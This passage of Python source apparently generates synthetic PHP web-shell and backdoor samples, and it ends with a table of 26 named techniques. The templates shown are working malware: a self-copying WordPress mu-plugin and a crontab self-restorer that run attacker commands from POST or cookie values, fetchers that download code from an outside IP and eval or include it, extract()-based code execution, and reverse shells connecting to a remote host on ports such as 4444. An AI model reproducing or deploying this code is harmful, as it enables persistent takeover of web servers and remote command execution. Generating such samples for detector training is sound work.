    sleep(30);
}
""", A=a)
    elif v == 1:
        code = T("""<?php
$src = base64_encode(file_get_contents(__FILE__));
register_shutdown_function(function () use ($src) {
    $t = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/mu-plugins/0-@N@.php';
    if (!is_file($t)) { @mkdir(dirname($t), 0755, true); file_put_contents($t, base64_decode($src)); }
});
if (!empty($_POST['@A@'])) { echo `{$_POST['@A@']}`; }
""", N=rw(r, 5), A=a)
    else:
        code = T("""<?php
$line = '*/10 * * * * php -r ' . escapeshellarg('@file_put_contents("' . __FILE__ . '", base64_decode("' . base64_encode(file_get_contents(__FILE__)) . '"));');
exec('(crontab -l 2>/dev/null | grep -v ' . basename(__FILE__) . '; echo ' . escapeshellarg($line) . ') | crontab -');
if (isset($_COOKIE['@A@'])) { exec($_COOKIE['@A@'], $o); echo join("\\n", $o); }
""", A=a)
    return [php(r, code)]


def remote_code(r, v):
    u = "http://%s/%s.txt" % (ip(r), rw(r, 6))
    if v == 0:
        code = T("<?php\n$c = @file_get_contents('@U@');\nif ($c === false) { $c = @implode('', file('@U@')); }\neval('?>' . $c);\n", U=u)
    elif v == 1:
        code = T("<?php\n$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => '@U@', CURLOPT_RETURNTRANSFER => 1, CURLOPT_SSL_VERIFYPEER => 0, CURLOPT_USERAGENT => 'Mozilla/5.0']);\n$code = curl_exec($ch);\ncurl_close($ch);\n$tmp = sys_get_temp_dir() . '/.' . md5('@U@');\nfile_put_contents($tmp, $code);\ninclude $tmp;\n", U=u)
    else:
        h = ip(r)
        code = T("<?php\n$s = fsockopen('@H@', 80, $en, $es, 5);\nfwrite($s, \"GET /@P@ HTTP/1.0\\r\\nHost: @H@\\r\\n\\r\\n\");\n$b = '';\nwhile (!feof($s)) { $b .= fgets($s, 1024); }\nfclose($s);\n$b = substr($b, strpos($b, \"\\r\\n\\r\\n\") + 4);\neval(gzuncompress(base64_decode($b)));\n", H=h, P=rw(r, 5) + ".dat")
    return [php(r, code)]


def extract_rce(r, v):
    if v == 0:
        code = "<?php\nextract($_REQUEST);\nif (isset($fn, $arg)) { $fn($arg); }\n"
    elif v == 1:
        code = "<?php\nparse_str($_SERVER['QUERY_STRING'], $opts);\nforeach ($opts as $k => $val) { $$k = $val; }\n@$a(@$b);\n"
    else:
        code = "<?php\n@import_request_variables('gp', 'r_');\nif (!isset($r_f)) { list($r_f, $r_c) = array_values($_POST + ['', '']); }\n$r_f && $r_f($r_c);\n"
    return [php(r, code)]


def backconnect_web(r, v):
    h, p = ip(r), r.choice((4444, 1337, 8081, 443))
    if v == 0:
        code = T("<?php\nif (isset($_GET['bc'])) {\n    $s = fsockopen($_GET['h'] ?? '@H@', (int) ($_GET['p'] ?? @P@));\n    $proc = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);\n}\n", H=h, P=p)
    elif v == 1:
        code = T("<?php\n$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nif (@socket_connect($sock, '@H@', @P@)) {\n    socket_write($sock, php_uname() . \"\\n\");\n    while ($c = socket_read($sock, 2048, PHP_NORMAL_READ)) { socket_write($sock, shell_exec(trim($c)) . '$ '); }\n}\n", H=h, P=p)
    else:
        code = T("<?php\n$c = stream_socket_client('tcp://@H@:@P@', $e, $es, 10);\nstream_set_blocking($c, true);\nwhile (!feof($c)) {\n    $cmd = fread($c, 1024);\n    $o = '';\n    exec($cmd . ' 2>&1', $lines);\n    fwrite($c, implode(\"\\n\", $lines) . \"\\n\");\n    $lines = [];\n}\n", H=h, P=p)
    return [php(r, code)]


TECHS = [
    ("fm-scandir-editor", fm, 3), ("cmd-runner", cmdrun, 3), ("uploader", upload, 3),
    ("header-eval-oneliner", hdr_oneliner, 3), ("request-callable", dyncall, 4), ("php8-idioms", php8, 3),
    ("callback-sink", callback_sink, 3), ("regex-callback-eval", regex_eval, 3), ("include-temp-payload", include_tmp, 3),
    ("reflection-invoke", reflect, 3), ("wp-plugin-backdoor", wp_inject, 3), ("wp-admin-creator", wp_admin, 3),
    ("joomla-injection", joomla, 3), ("drupal-injection", drupal, 3), ("laravel-injection", laravel, 3),
    ("magento-injection", magento, 3), ("obf-chr-arith", obf_chr, 3), ("obf-alphabet-subst", obf_subst, 3),
    ("obf-xor-pack", obf_xorpack, 3), ("obf-varvar-table", obf_varvar, 3), ("sql-client-cfg-harvest", sqlclient, 3),
    ("server-config-handler", srvconf, 3), ("self-restoring", guardian, 3), ("remote-code-fetch", remote_code, 3),
    ("extract-rce", extract_rce, 3), ("web-backconnect", backconnect_web, 3),
]
